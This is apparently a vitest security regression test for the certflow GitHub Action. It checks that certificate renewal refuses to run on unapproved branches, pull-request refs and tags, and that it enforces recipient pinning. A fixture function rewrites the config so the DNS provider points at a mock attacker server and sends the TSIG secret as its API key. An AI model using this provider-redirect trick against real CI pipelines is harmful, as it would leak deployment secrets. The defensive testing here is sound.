/**
 * Issue 17, part 1: "Anyone with write access can mint certificates". A collaborator pushes a
 * branch whose config points the DNS provider at their own server with the TSIG secret as its API
 * key, then starts renew on that branch by hand. The bundled Action must stop before it reads the
 * config, so the attacker's server never sees a request; on an allowed branch (the control) the
 * same config does reach it, which proves the check can fail.
 */

import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultEvent, runBundledAction } from '../support/action-runner.js';
import { createWorkspace, type Workspace } from '../support/workspace.js';

let ws: Workspace;
let server: Server;
const seen: string[] = [];

/** The branch's config: the `bind` provider swapped for the attacker's "PowerDNS". */
function hostileConfig(text: string, url: string): string {
  const start = text.indexOf('  bind:\n');
  const end = text.indexOf('certificates:\n');
  const provider = `  bind:\n    type: powerdns\n    api-url: ${url}\n    api-key: \${TSIG_SECRET}\n    zones: [certflow.test]\n`;
  return `${text.slice(0, start)}${provider}${text.slice(end)}`;
}

function run(
  command: string,
  ref: string,
  extra: Record<string, string> = {},
  event = 'workflow_dispatch',
  env: Record<string, string> = {},
) {
  return runBundledAction({
    workspace: ws.dir,
    inputs: {
      command,
      force: 'all',
      certificates: 'www',
      publish: 'none',
      'age-identity': ws.identity,
      ...extra,
    },
    env: {
      ...ws.env,
      GITHUB_REF: ref,
      GITHUB_REF_NAME: ref.split('/').pop() ?? '',
      GITHUB_EVENT_NAME: event,
      ...env,
    },
    event: defaultEvent(),
    timeoutMs: 120_000,
  });
}

beforeAll(async () => {
  ws = await createWorkspace();
  server = createServer((req, res) => {
    seen.push(String(req.headers['x-api-key'] ?? ''));
    res.writeHead(500).end('{"error":"attacker"}');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  writeFileSync(
    ws.configPath,
    hostileConfig(readFileSync(ws.configPath, 'utf8'), `http://127.0.0.1:${port}`),
  );
}, 60_000);

afterAll(async () => {
  await new Promise((done) => server?.close(done));
  if (ws) {
    rmSync(ws.dir, { recursive: true, force: true });
    rmSync(ws.origin, { recursive: true, force: true });
  }
});

describe('branch guard in the bundled Action', () => {
  it('renew on a pushed branch is refused, naming the branch and allow-branches; the secret stays home', async () => {
    const r = await run('renew', 'refs/heads/mint-my-own');
    expect(r.code).not.toBe(0);
    expect(r.stdout).toMatch(/^::error::certflow renew refused on branch 'mint-my-own'/m);
    expect(r.stdout).toContain("the default branch of acme/infra is 'main'");
    expect(r.stdout).toContain('allow-branches');
    expect(seen).toEqual([]);
  });

  it('deploy, and check with alert-issue, are refused too; plan is not', async () => {
    const deploy = await run('deploy', 'refs/heads/mint-my-own');
    expect(deploy.stdout).toMatch(/^::error::certflow deploy refused on branch 'mint-my-own'/m);
    const check = await run('check', 'refs/heads/mint-my-own', { 'alert-issue': 'true' });
    expect(check.stdout).toMatch(/^::error::certflow check with alert-issue refused/m);
    const plan = await run('plan', 'refs/heads/mint-my-own');
    expect(plan.code, plan.stdout).toBe(0);
    expect(plan.stdout).not.toContain('refused');
    expect(seen).toEqual([]);
  });

  it('a pull request merge ref or a tag is not a branch: refused', async () => {
    const pr = await run('renew', 'refs/pull/7/merge', {}, 'pull_request');
    expect(pr.stdout).toMatch(
      /^::error::certflow renew refused: this run is on 'refs\/pull\/7\/merge' \(event pull_request\)/m,
    );
    const tag = await run('renew', 'refs/tags/v1');
    expect(tag.stdout).toMatch(/refused: this run is on 'refs\/tags\/v1'/);
    expect(seen).toEqual([]);
  });

  it('allow-branches unlocks a listed branch (control: the same config then reaches the server)', async () => {
    const r = await run('renew', 'refs/heads/release/2026', { 'allow-branches': 'hotfix, release/*' });
    expect(r.stdout).not.toContain('refused');
    expect(r.code).not.toBe(0);
    expect(seen.length).toBeGreaterThan(0);
    expect(seen[0]).toBe(ws.env.TSIG_SECRET);
  }, 120_000);
});

describe('recipients pinning (CERTFLOW_RECIPIENTS)', () => {
  const recipientOf = () => /recipients: \[(.*)\]/.exec(readFileSync(ws.configPath, 'utf8'))?.[1] ?? '';

  it('renew on the default branch refuses when store.recipients has a recipient the environment did not pin', async () => {
    const before = seen.length;
    const pinned = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p';
    const r = await run('renew', 'refs/heads/main', {}, 'schedule', { CERTFLOW_RECIPIENTS: pinned });
    expect(r.code).not.toBe(0);
    expect(r.stdout, r.stdout.slice(-1500)).toContain('differ from CERTFLOW_RECIPIENTS');
    expect(r.stdout).toContain(`not pinned: ${recipientOf()}`);
    expect(r.stdout).toContain(`pinned but missing: ${pinned}`);
    expect(seen.length).toBe(before);
  });

  it('the same list, in any order and spacing, passes (control: the run goes on to DNS)', async () => {
    const before = seen.length;
    const r = await run('renew', 'refs/heads/main', {}, 'schedule', {
      CERTFLOW_RECIPIENTS: ` ${recipientOf()}\n`,
    });
    expect(r.stdout).not.toContain('CERTFLOW_RECIPIENTS');
    expect(seen.length).toBeGreaterThan(before);
  }, 120_000);
});
